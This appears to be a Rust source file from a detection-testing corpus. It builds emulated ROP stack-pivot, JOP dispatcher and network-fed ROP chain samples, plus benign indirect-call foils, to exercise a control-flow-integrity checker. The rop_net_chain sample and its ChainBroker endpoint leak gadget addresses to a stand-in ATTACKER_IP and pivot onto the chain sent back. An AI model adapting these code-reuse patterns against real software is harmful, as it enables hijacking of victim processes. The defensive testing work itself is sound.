@@ -1,0 +1,370 @@
+//! Code-reuse (ROP/JOP) attack samples and their benign foils.
+//!
+//! Every injector in [`crate::attacks`] eventually *executes bytes it
+//! wrote* — which is exactly what the taint-confluence invariant, the
+//! coverage diff, and malfind-style scanners key on. A code-reuse chain
+//! executes **only image-backed, W^X-clean instructions**: the attacker
+//! merely redirects control through gadget tails already present in the
+//! victim's code. All injected-byte signals stay silent by design; the
+//! only tell is *illegal control flow*, which the static CFI model
+//! (`faros_analyze::cfi`) is built to catch:
+//!
+//! * [`rop_pivot_chain`] — classic ROP: the victim's stack pointer is
+//!   pivoted into an attacker-ordered array of gadget addresses and a
+//!   `ret` dispatches the chain. Every chain `ret` lands mid-function —
+//!   never on a call-preceded address — so each edge violates the
+//!   return-site claim.
+//! * [`jop_dispatch`] — JOP: a load/advance/`jmp reg` dispatcher gadget
+//!   walks a register-indirect table of gadget addresses. The dispatch
+//!   site is statically unresolvable (the table is writable memory), so
+//!   its weak claim is "land on a known function entry" — which gadget
+//!   tails never do.
+//! * [`rop_net_chain`] — the taint-laundering variant: the chain words
+//!   arrive over the network (leak-then-reply, the info-leak shape of
+//!   real reuse exploits), so every violating `ret` pops netflow-tainted
+//!   bytes and the violation carries the taint-fusion bit: *attacker
+//!   data decided this control transfer*.
+//!
+//! The benign foils prove the CFI layer does not false-positive on dense
+//! indirect control flow:
+//!
+//! * [`callback_broker`] — a callback-table dispatcher: network-chosen
+//!   (tainted!) indices select from a writable function-pointer table,
+//!   but every observed target is a known function entry and every
+//!   return is call-preceded.
+//! * [`fn_pointer_farm`] — constant function pointers through registers
+//!   (`call reg` / `jmp reg` the VSA resolves exactly) plus nested
+//!   direct calls.
+
+use crate::builder::{
+    connect, exit_process, finish_image, print_label, recv_into, send_buf, SCRATCH,
+};
+use crate::endpoints::{BlobServer, EndpointFactory, ATTACKER_IP};
+use crate::scenario::{Behavior, Category, Sample, SampleScenario};
+use faros_emu::asm::Asm;
+use faros_emu::isa::{Mem as M, Reg};
+use faros_kernel::machine::IMAGE_BASE;
+use faros_kernel::net::RemoteEndpoint;
+
+/// Where the pivoted gadget chain / dispatch table is assembled.
+pub const CHAIN_BUF: u32 = SCRATCH + 0x800;
+
+/// Where [`rop_net_chain`] leaks its gadget addresses from.
+pub const LEAK_BUF: u32 = SCRATCH + 0xa00;
+
+/// Where [`callback_broker`] receives its command bytes.
+pub const CMD_BUF: u32 = SCRATCH + 0xb00;
+
+/// Port the reuse samples' remote endpoints listen on.
+pub const REUSE_PORT: u16 = 7100;
+
+/// The three reuse attacks, in documentation order.
+pub fn reuse_attack_samples() -> Vec<Sample> {
+    vec![rop_pivot_chain(), jop_dispatch(), rop_net_chain()]
+}
+
+/// The two benign dense-indirect foils.
+pub fn reuse_benign_samples() -> Vec<Sample> {
+    vec![callback_broker(), fn_pointer_farm()]
+}
+
+/// Writes the address of `label` to `slot` (chain/table assembly).
+fn store_label(asm: &mut Asm, slot: u32, label: &str) {
+    asm.mov_label(Reg::Eax, label);
+    asm.st4(M::abs(slot), Reg::Eax);
+}
+
+/// ROP with a stack pivot: the chain is assembled in scratch memory,
+/// `ESP` is pointed at it, and a `ret` dispatches gadget tail after
+/// gadget tail. No byte of attacker code ever executes.
+pub fn rop_pivot_chain() -> Sample {
+    let mut asm = Asm::new(IMAGE_BASE);
+    // Benign-looking prologue: one legitimate call, so the image has
+    // ordinary call-preceded control flow too.
+    asm.call("fmt_header");
+    // Assemble the chain: three gadget tails, then the exit stub.
+    store_label(&mut asm, CHAIN_BUF, "g_bump");
+    store_label(&mut asm, CHAIN_BUF + 4, "g_mask");
+    store_label(&mut asm, CHAIN_BUF + 8, "g_merge");
+    store_label(&mut asm, CHAIN_BUF + 12, "chain_done");
+    // The pivot: ESP now walks attacker-ordered data.
+    asm.mov_ri(Reg::Eax, CHAIN_BUF);
+    asm.mov_rr(Reg::Esp, Reg::Eax);
+    asm.ret();
+    // "Victim" utility functions; the labels mark the gadget tails the
+    // chain actually uses — all mid-function, never call-preceded.
+    asm.label("fmt_header");
+    asm.mov_ri(Reg::Edi, 0);
+    asm.label("g_bump");
+    asm.add_ri(Reg::Edi, 1);
+    asm.ret();
+    asm.label("fmt_footer");
+    asm.mov_ri(Reg::Edx, 0x5a);
+    asm.label("g_mask");
+    asm.and_ri(Reg::Edx, 0x0f);
+    asm.ret();
+    asm.label("fmt_join");
+    asm.mov_ri(Reg::Ebx, 0);
+    asm.label("g_merge");
+    asm.or_ri(Reg::Ebx, 0x40);
+    asm.ret();
+    asm.label("chain_done");
+    print_label(&mut asm, "msg_done", 4);
+    exit_process(&mut asm, 0);
+    asm.label("msg_done");
+    asm.raw(b"done");
+
+    let scenario = SampleScenario::new("rop_pivot_chain")
+        .program("C:/planner.exe", finish_image(asm))
+        .autostart("C:/planner.exe");
+    Sample { scenario, category: Category::ReuseAttack, behaviors: vec![Behavior::Run] }
+}
+
+/// JOP: a dispatcher gadget (`load; advance; jmp reg`) walks a writable
+/// table of gadget addresses. Direct jumps return to the dispatcher, so
+/// no `ret` / `call` ever executes — a detector watching only returns
+/// misses it; the function-entry claim on the unresolved `jmp reg` does
+/// not.
+pub fn jop_dispatch() -> Sample {
+    let mut asm = Asm::new(IMAGE_BASE);
+    asm.call("draw_init");
+    // The dispatch table, attacker-ordered.
+    store_label(&mut asm, CHAIN_BUF, "j_scale");
+    store_label(&mut asm, CHAIN_BUF + 4, "j_shift");
+    store_label(&mut asm, CHAIN_BUF + 8, "j_blend");
+    store_label(&mut asm, CHAIN_BUF + 12, "jop_done");
+    asm.mov_ri(Reg::Esi, CHAIN_BUF);
+    asm.jmp("dispatch");
+    // The dispatcher gadget: statically unresolvable (the table is
+    // writable), so its CFI claim is "land on a known function entry".
+    asm.label("dispatch");
+    asm.ld4(Reg::Ebx, M::reg(Reg::Esi));
+    asm.add_ri(Reg::Esi, 4);
+    asm.jmp_reg(Reg::Ebx);
+    // Victim functions with usable mid-function tails.
+    asm.label("draw_init");
+    asm.mov_ri(Reg::Ecx, 0);
+    asm.ret();
+    asm.label("draw_scale");
+    asm.mov_ri(Reg::Edx, 2);
+    asm.label("j_scale");
+    asm.mul_ri(Reg::Edx, 3);
+    asm.jmp("dispatch");
+    asm.label("draw_shift");
+    asm.mov_ri(Reg::Edi, 1);
+    asm.label("j_shift");
+    asm.shl_ri(Reg::Edi, 2);
+    asm.jmp("dispatch");
+    asm.label("draw_blend");
+    asm.mov_ri(Reg::Ebx, 0);
+    asm.label("j_blend");
+    asm.xor_ri(Reg::Edx, 0xff);
+    asm.jmp("dispatch");
+    asm.label("jop_done");
+    exit_process(&mut asm, 0);
+
+    let scenario = SampleScenario::new("jop_dispatch")
+        .program("C:/renderer.exe", finish_image(asm))
+        .autostart("C:/renderer.exe");
+    Sample { scenario, category: Category::ReuseAttack, behaviors: vec![Behavior::Run] }
+}
+
+/// The attacker half of [`rop_net_chain`]: receives the leaked gadget
+/// addresses and replies with the chain — the same words, reordered and
+/// terminated, proving the *remote* side chose the control flow.
+#[derive(Debug, Default)]
+pub struct ChainBroker;
+
+impl RemoteEndpoint for ChainBroker {
+    fn on_data(&mut self, data: &[u8]) -> Vec<Vec<u8>> {
+        if data.len() != 12 {
+            return Vec::new();
+        }
+        let word = |i: usize| &data[4 * i..4 * i + 4];
+        // Leak order [bump, mask, done] comes back as chain
+        // [mask, bump, done].
+        let mut chain = Vec::with_capacity(12);
+        chain.extend_from_slice(word(1));
+        chain.extend_from_slice(word(0));
+        chain.extend_from_slice(word(2));
+        vec![chain]
+    }
+}
+
+/// ROP assembled from network input: the victim leaks its gadget
+/// addresses, the remote replies with the ordered chain, and the pivot
+/// dispatches it. Every chain word is a byte-for-byte copy of network
+/// data, so the violating returns pop netflow-tainted bytes — the
+/// taint-fusion bit on the resulting CFI violations is set.
+pub fn rop_net_chain() -> Sample {
+    let mut asm = Asm::new(IMAGE_BASE);
+    connect(&mut asm, ATTACKER_IP, REUSE_PORT, 0);
+    // Leak the gadget addresses (the info-leak stage of a real exploit).
+    store_label(&mut asm, LEAK_BUF, "n_bump");
+    store_label(&mut asm, LEAK_BUF + 4, "n_mask");
+    store_label(&mut asm, LEAK_BUF + 8, "net_done");
+    send_buf(&mut asm, 0, LEAK_BUF, 12);
+    // The chain comes back attacker-ordered; land it and pivot.
+    recv_into(&mut asm, 0, CHAIN_BUF, 12, 4);
+    asm.mov_ri(Reg::Eax, CHAIN_BUF);
+    asm.mov_rr(Reg::Esp, Reg::Eax);
+    asm.ret();
+    asm.label("poll_tick");
+    asm.mov_ri(Reg::Edi, 0);
+    asm.label("n_bump");
+    asm.add_ri(Reg::Edi, 1);
+    asm.ret();
+    asm.label("poll_wrap");
+    asm.mov_ri(Reg::Edx, 0x7f);
+    asm.label("n_mask");
+    asm.and_ri(Reg::Edx, 0x0f);
+    asm.ret();
+    asm.label("net_done");
+    exit_process(&mut asm, 0);
+
+    let scenario = SampleScenario::new("rop_net_chain")
+        .program("C:/agent.exe", finish_image(asm))
+        .endpoint(EndpointFactory::new(ATTACKER_IP, REUSE_PORT, || ChainBroker))
+        .autostart("C:/agent.exe");
+    Sample {
+        scenario,
+        category: Category::ReuseAttack,
+        behaviors: vec![Behavior::Download],
+    }
+}
+
+/// Benign foil #1: a callback-table dispatcher. Network-chosen indices
+/// (tainted data!) select handlers from a *writable* function-pointer
+/// table — the same unresolvable-site shape as [`jop_dispatch`] — but
+/// every observed target is a known function entry and every return is
+/// call-preceded, so the CFI check stays silent.
+pub fn callback_broker() -> Sample {
+    let mut asm = Asm::new(IMAGE_BASE);
+    // Direct calls first: they make the handlers known function entries
+    // in the static model (and are ordinary warm-up work).
+    asm.call("on_open");
+    asm.call("on_data");
+    asm.call("on_tick");
+    asm.call("on_close");
+    // The callback table, built at runtime (writable memory: the VSA
+    // cannot and need not resolve the dispatch site).
+    store_label(&mut asm, CHAIN_BUF, "on_open");
+    store_label(&mut asm, CHAIN_BUF + 4, "on_data");
+    store_label(&mut asm, CHAIN_BUF + 8, "on_tick");
+    store_label(&mut asm, CHAIN_BUF + 12, "on_close");
+    // Pull 8 command bytes; each (masked to 2 bits) picks a handler.
+    connect(&mut asm, ATTACKER_IP, REUSE_PORT, 0);
+    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
+    asm.mov_label(Reg::Ecx, "msg_pull");
+    crate::builder::sys(
+        &mut asm,
+        faros_kernel::nt::Sysno::NtSocketSend,
+        &[(Reg::Edx, 4), (Reg::Esi, 0)],
+    );
+    recv_into(&mut asm, 0, CMD_BUF, 8, 4);
+    asm.mov_ri(Reg::Esi, CMD_BUF);
+    asm.mov_ri(Reg::Edi, 8);
+    asm.label("pump");
+    asm.cmp_ri(Reg::Edi, 0);
+    asm.jz("pump_done");
+    asm.ld1(Reg::Edx, M::reg(Reg::Esi)); // tainted command byte
+    asm.and_ri(Reg::Edx, 3); // bounds mask
+    asm.shl_ri(Reg::Edx, 2);
+    asm.mov_ri(Reg::Ebx, CHAIN_BUF);
+    asm.add_rr(Reg::Ebx, Reg::Edx);
+    asm.ld4(Reg::Ebx, M::reg(Reg::Ebx));
+    asm.call_reg(Reg::Ebx); // dense, tainted-index, CFI-clean dispatch
+    asm.add_ri(Reg::Esi, 1);
+    asm.sub_ri(Reg::Edi, 1);
+    asm.jmp("pump");
+    asm.label("pump_done");
+    exit_process(&mut asm, 0);
+    // The handlers: real function entries with ordinary returns.
+    asm.label("on_open");
+    asm.mov_ri(Reg::Eax, 1);
+    asm.ret();
+    asm.label("on_data");
+    asm.mov_ri(Reg::Eax, 2);
+    asm.ret();
+    asm.label("on_tick");
+    asm.mov_ri(Reg::Eax, 3);
+    asm.ret();
+    asm.label("on_close");
+    asm.mov_ri(Reg::Eax, 4);
+    asm.ret();
+    asm.label("msg_pull");
+    asm.raw(b"PULL");
+
+    let scenario = SampleScenario::new("callback_broker")
+        .program("C:/switchboard.exe", finish_image(asm))
+        .endpoint(EndpointFactory::new(ATTACKER_IP, REUSE_PORT, || {
+            BlobServer::new(vec![0, 1, 2, 3, 3, 2, 1, 0])
+        }))
+        .autostart("C:/switchboard.exe");
+    Sample { scenario, category: Category::Benign, behaviors: vec![Behavior::Download] }
+}
+
+/// Benign foil #2: constant function pointers through registers. The VSA
+/// resolves every site exactly, so these run under the *strict* resolved
+/// target-set claim — and pass, including a resolved `jmp reg` tail
+/// call and nested direct calls returning through two frames.
+pub fn fn_pointer_farm() -> Sample {
+    let mut asm = Asm::new(IMAGE_BASE);
+    asm.mov_label(Reg::Ebx, "step_a");
+    asm.call_reg(Reg::Ebx);
+    asm.mov_label(Reg::Ebx, "step_b");
+    asm.call_reg(Reg::Ebx);
+    asm.mov_label(Reg::Ebx, "finish");
+    asm.jmp_reg(Reg::Ebx); // resolved tail jump
+    asm.label("step_a");
+    asm.add_ri(Reg::Edi, 3);
+    asm.ret();
+    asm.label("step_b");
+    asm.call("step_a"); // nested: returns pop through two frames
+    asm.xor_ri(Reg::Edi, 0x10);
+    asm.ret();
+    asm.label("finish");
+    print_label(&mut asm, "msg_ok", 2);
+    exit_process(&mut asm, 0);
+    asm.label("msg_ok");
+    asm.raw(b"ok");
+
+    let scenario = SampleScenario::new("fn_pointer_farm")
+        .program("C:/relay.exe", finish_image(asm))
+        .autostart("C:/relay.exe");
+    Sample { scenario, category: Category::Benign, behaviors: vec![Behavior::Run] }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn chain_broker_reorders_the_leak() {
+        let mut broker = ChainBroker;
+        let leak: Vec<u8> = [0x10u32, 0x20, 0x30]
+            .iter()
+            .flat_map(|w| w.to_le_bytes())
+            .collect();
+        let reply = broker.on_data(&leak);
+        assert_eq!(reply.len(), 1);
+        let words: Vec<u32> = reply[0]
+            .chunks(4)
+            .map(|c| u32::from_le_bytes(c.try_into().unwrap()))
+            .collect();
+        assert_eq!(words, vec![0x20, 0x10, 0x30]);
+        assert!(broker.on_data(b"short").is_empty());
+    }
+
+    #[test]
+    fn reuse_categories_split_taint_and_cfi_expectations() {
+        for s in reuse_attack_samples() {
+            assert_eq!(s.category, Category::ReuseAttack);
+            assert!(!s.category.should_flag(), "taint must stay silent on reuse");
+            assert!(s.category.is_attack());
+        }
+        for s in reuse_benign_samples() {
+            assert!(!s.category.is_attack());
+        }
+    }
+}
